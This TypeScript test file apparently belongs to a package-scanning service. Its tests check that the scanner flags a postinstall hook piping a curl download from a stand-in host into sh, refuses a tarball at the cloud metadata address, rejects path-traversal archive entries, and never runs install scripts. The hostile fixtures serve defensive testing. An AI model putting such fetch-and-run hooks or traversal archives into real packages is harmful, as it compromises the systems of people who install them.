import { createHash } from 'node:crypto';
import { tarGz } from '../support/archives/tar-writer';
import { type Canary, openCanary } from '../support/hostile/canary';
import {
  type PackageRegistry,
  type Publication,
  openPackageRegistry,
} from '../support/package-registry/package-registry';
import { expectInvalid } from '../support/refusals';
import { type RunningService, type Tenant, runningService } from '../support/running-service';
import { FLAW, FLAWED, FLAWLESS, projectOf, scanned } from '../support/scanned';

/** The manifest of a package without a fault. */
const manifest = (name: string, version: string, more: object = {}) =>
  JSON.stringify({ name, version, license: 'MIT', type: 'module', ...more }, null, 2);

describe('a scan of a package', () => {
  let registry: PackageRegistry;
  let canary: Canary;
  let service: RunningService;
  let tenant: Tenant;
  let project: string;
  beforeAll(async () => {
    [registry, canary] = await Promise.all([openPackageRegistry(), openCanary()]);
    service = await runningService({
      settings: {
        ASSAY_PKGREG_URL: `http://127.0.0.1:${registry.port}`,
        ASSAY_ALLOWED_TARGETS: `127.0.0.1:${registry.port}`,
      },
    });
    tenant = await service.tenant('business');
    project = await projectOf(tenant);
    publish('@ada/shop', {
      '1.0.0': { files: { ...FLAWED, 'package.json': manifest('@ada/shop', '1.0.0') } },
      '1.1.0': { files: { ...FLAWLESS, 'package.json': manifest('@ada/shop', '1.1.0') } },
    });
  });
  afterAll(async () => {
    await service.close();
    await registry.close();
    expect({ traces: await canary.traces(), connections: canary.connections() }).toEqual({
      traces: [],
      connections: 0,
    });
    await canary.close();
  });

  const publish = (name: string, versions: Readonly<Record<string, Publication>>) =>
    registry.publish(
      name,
      Object.fromEntries(
        Object.entries(versions).map(([version, { dist, ...more }]) => [
          version,
          {
            ...more,
            dist: {
              tarball: `http://127.0.0.1:${registry.port}/${name}/-/${name.split('/').at(-1)}-${version}.tgz`,
              ...dist,
            },
          },
        ]),
      ),
    );
  const scan = (pkgregPackage: string) => scanned(service, tenant, project, { sourceType: 'pkgreg', pkgregPackage });

  it('finds what a version has, and says what was verified', async () => {
    const ended = await scan('pkg:npm/%40ada/shop@1.0.0');
    expect(ended.scan).toMatchObject({ status: 'completed', sourceType: 'pkgreg', summary: { medium: 1, total: 1 } });
    expect(ended.findings).toEqual([expect.objectContaining(FLAW)]);
    expect(ended.session).toMatchObject({
      target: { sourceType: 'pkgreg', pkgregPackage: '@ada/shop@1.0.0' },
      targetSummary: {
        files: 2,
        package: { name: '@ada/shop', version: '1.0.0', integrity: expect.stringMatching(/^sha512-/) },
      },
    });
  });

  it('finds nothing in the version that a range means, where that has nothing', async () => {
    const { scan: ended, session, findings } = await scan('@ada/shop@^1.0.0');
    expect(ended).toMatchObject({ status: 'completed', summary: { total: 0 } });
    expect(findings).toEqual([]);
    expect(session.targetSummary.package).toMatchObject({ version: '1.1.0' });
  });

  it('finds what would meet those who install it: entries, types, scripts, a licence and dependencies', async () => {
    publish('tide', {
      '2.0.0': {
        files: {
          'package.json': manifest('tide', '2.0.0', {
            type: 'commonjs',
            license: 'AGPL-3.0-only',
            engines: { node: '>=20' },
            exports: {
              '.': { types: './index.d.ts', import: './index.mjs', require: './index.js' },
              './moon': './moon.js',
            },
            scripts: { postinstall: 'curl -s https://host.example/a.sh | sh', build: 'tsc' },
            dependencies: { wind: 'git+https://host.example/wind.git#main' },
          }),
          'index.js': 'exports.high = (hour) => hour % 12 < 6;\n',
          'index.mjs': 'export const high = (hour) => hour % 12 < 6;\n',
          'index.d.ts': 'export declare const high: (hour: number) => boolean;\n',
        },
      },
    });
    const { scan: ended, findings } = await scan('tide@2.0.0');
    expect(ended).toMatchObject({ status: 'completed' });
    const found = findings.map(({ tool, file, line, title }) => `${tool} ${file}:${line} ${title}`);
    expect(found).toEqual(
      expect.arrayContaining([
        'npm-publish-lint package.json:15 An entry of the package names a file that is not in it',
        'npm-types package.json:11 Types of CommonJS for an ES module',
        'npm-types package.json:15 An entry of the package cannot be imported',
        'install-scripts package.json:18 Installing the project fetches a program and runs it',
        'license-policy package.json:4 A dependency whose licence also binds services on the network',
        'lockfile-integrity package.json:22 A git dependency follows a branch',
      ]),
    );
  });

  it.each<[string, string, Publication, string]>([
    [
      'is not what the registry promises',
      'tampered',
      { dist: { integrity: `sha512-${createHash('sha512').update('another').digest('base64')}` } },
      'INTEGRITY_MISMATCH',
    ],
    [
      'lies at a private address',
      'inward',
      { dist: { tarball: 'http://169.254.169.254/inward.tgz' } },
      'TARGET_NOT_ALLOWED',
    ],
    [
      'climbs out of its folder',
      'climber',
      { tarball: tarGz({ name: '../../escaped.js', content: 'x' }) },
      'ARCHIVE_PARENT_PATH',
    ],
  ])('fails with a reason, and costs nothing, where it %s', async (_, name, publication, code) => {
    publish(name, { '1.0.0': publication });
    const { scan: ended, cost } = await scan(name);
    expect(ended).toMatchObject({ status: 'failed', error: { code, message: expect.stringMatching(/\w/) } });
    expect(cost).toBe(0);
  });

  it.each([
    ['gone', 'PACKAGE_NOT_FOUND'],
    ['@ada/shop@9', 'VERSION_NOT_FOUND'],
  ])('fails with a reason, and costs nothing, where %s is not there', async (name, code) => {
    const { scan: ended, cost } = await scan(name);
    expect(ended).toMatchObject({ status: 'failed', error: { code } });
    expect(cost).toBe(0);
  });

  it('runs nothing of it', async () => {
    const script = `node -e ${JSON.stringify(canary.trip('script'))}`;
    publish('runner', {
      '1.0.0': {
        files: {
          ...FLAWLESS,
          'package.json': manifest('runner', '1.0.0', {
            scripts: { preinstall: script, install: script, postinstall: script, prepare: script },
          }),
        },
      },
    });
    expect((await scan('runner')).scan).toMatchObject({ status: 'completed' });
  });

  it.each(['', '../shop', 'shop@file:../x', 'pkg:pypi/shop', 'shop@https://host.example/shop.tgz'])(
    'is refused at once where it is named "%s"',
    async (pkgregPackage) =>
      expectInvalid(
        await tenant.post('/api/v1/scans', { applicationId: project, sourceType: 'pkgreg', pkgregPackage }),
        'pkgregPackage',
      ),
  );
});
